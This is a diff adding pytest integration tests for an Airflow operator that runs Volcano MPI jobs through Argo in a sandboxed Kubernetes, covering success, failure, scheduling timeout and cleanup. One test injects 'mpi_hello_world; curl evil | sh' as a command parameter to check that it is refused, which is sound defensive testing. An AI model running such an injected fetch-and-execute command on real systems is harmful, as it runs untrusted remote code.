@@ -1,0 +1,111 @@
+"""VolcanoMPIJobOperator end to end through Airflow's own machinery (dag.test runs the deferral and trigger)."""
+
+from __future__ import annotations
+
+import logging
+
+import pytest
+
+from airflow_provider_volcano_argo import templates
+from airflow_provider_volcano_argo.sandbox.kubelet import ScriptedProgram
+
+from .helpers import wait_for
+
+pytestmark = pytest.mark.integration
+
+
+@pytest.fixture
+def mpi_namespace(sandbox, sandbox_namespace, airflow_db, monkeypatch):
+    """A namespace with the shipped template and Argo RBAC, and Airflow's connection as the least-privilege SA."""
+    ns = sandbox_namespace
+    for name in templates.TEMPLATE_FILES:
+        body = templates.workflow_template(name)
+        body["metadata"]["namespace"] = ns
+        sandbox.apply(body)
+    for doc in templates.argo_rbac(ns):
+        sandbox.apply(doc)
+    monkeypatch.setenv("AIRFLOW_CONN_KUBERNETES_DEFAULT", sandbox.airflow_connection())
+    return ns
+
+
+def _run(dag, caplog, capfd, **conf) -> tuple[dict, str]:
+    caplog.set_level(logging.INFO)
+    dagrun = dag.test(run_conf=conf)
+    states = {ti.task_id: ti.state for ti in dagrun.get_task_instances()}
+    out, err = capfd.readouterr()
+    return states, caplog.text + out + err
+
+
+def test_etl_then_mpi_then_downstream_succeeds_with_every_rank_in_the_log(sandbox, mpi_namespace, caplog, capfd):
+    from tests.dags.mpi_test_dags import etl_mpi_etl
+
+    states, log = _run(etl_mpi_etl, caplog, capfd, namespace=mpi_namespace)
+    assert states == {"extract": "success", "mpi": "success", "load": "success"}, log[-3000:]
+    for rank in range(3):
+        assert f"rank {rank} out of 3 processors" in log
+    assert "-> Running" in log and "Completed" in log
+    from airflow.models import XCom  # noqa: F401  (the result is checked through the downstream task's input)
+
+    result = _xcom(etl_mpi_etl.dag_id, "mpi")
+    assert result["phase"] == "Completed" and result["status"] == "success"
+    assert result["namespace"] == mpi_namespace and result["job_name"].startswith("mpi-")
+    assert result["task_status_count"]["mpimaster"]["phase"] == {"Succeeded": 1}
+    # on_finish_action=delete_workflow: nothing is left behind
+    wait_for(lambda: not sandbox.api.list("workflows", mpi_namespace)["items"], 60, what="workflow deleted")
+    wait_for(lambda: not sandbox.api.list("vcjobs", mpi_namespace)["items"], 60, what="job collected")
+    wait_for(lambda: not sandbox.api.list("pods", mpi_namespace)["items"], 60, what="pods collected")
+
+
+def _xcom(dag_id: str, task_id: str):
+    from airflow.models.xcom import XComModel
+    from airflow.utils.session import create_session
+
+    with create_session() as session:
+        row = (
+            session.query(XComModel)
+            .filter(XComModel.dag_id == dag_id, XComModel.task_id == task_id, XComModel.key == "return_value")
+            .order_by(XComModel.timestamp.desc())
+            .first()
+        )
+        return XComModel.deserialize_value(row)
+
+
+def test_hostile_parameters_are_refused_before_anything_is_created(sandbox, mpi_namespace, caplog, capfd):
+    from tests.dags.mpi_test_dags import mpi_hostile
+
+    states, log = _run(
+        mpi_hostile, caplog, capfd, namespace=mpi_namespace, mpi_command="mpi_hello_world; curl evil | sh"
+    )
+    assert states == {"mpi": "failed"}
+    assert "mpi_command: must not contain ';'" in log
+    assert sandbox.api.list("workflows", mpi_namespace)["items"] == []
+    assert sandbox.api.list("vcjobs", mpi_namespace)["items"] == []
+
+
+def test_failing_master_fails_the_task_with_diagnostics(sandbox, mpi_namespace, caplog, capfd):
+    from tests.dags.mpi_test_dags import mpi_failing
+
+    sandbox.kubelet.programs.script(
+        ScriptedProgram(lines=["starting", "error: rank 1 diverged"], exit_code=7),
+        namespace=mpi_namespace,
+        container="mpimaster",
+    )
+    try:
+        states, log = _run(mpi_failing, caplog, capfd, namespace=mpi_namespace)
+    finally:
+        sandbox.kubelet.programs.clear()
+    assert states == {"mpi": "failed"}
+    assert "ended Failed" in log
+    assert "exited with code 7" in log
+    assert "error: rank 1 diverged" in log
+    assert "retries 2" in log
+
+
+def test_gang_never_admitted_fails_after_schedule_timeout_naming_the_reason(sandbox, mpi_namespace, caplog, capfd):
+    from tests.dags.mpi_test_dags import mpi_unschedulable
+
+    states, log = _run(mpi_unschedulable, caplog, capfd, namespace=mpi_namespace)
+    assert states == {"mpi": "failed"}
+    assert "not admitted by the gang scheduler within schedule_timeout" in log
+    assert "NotEnoughResources" in log and "cpu" in log
+    wait_for(lambda: not sandbox.api.list("vcjobs", mpi_namespace)["items"], 60, what="nothing left")
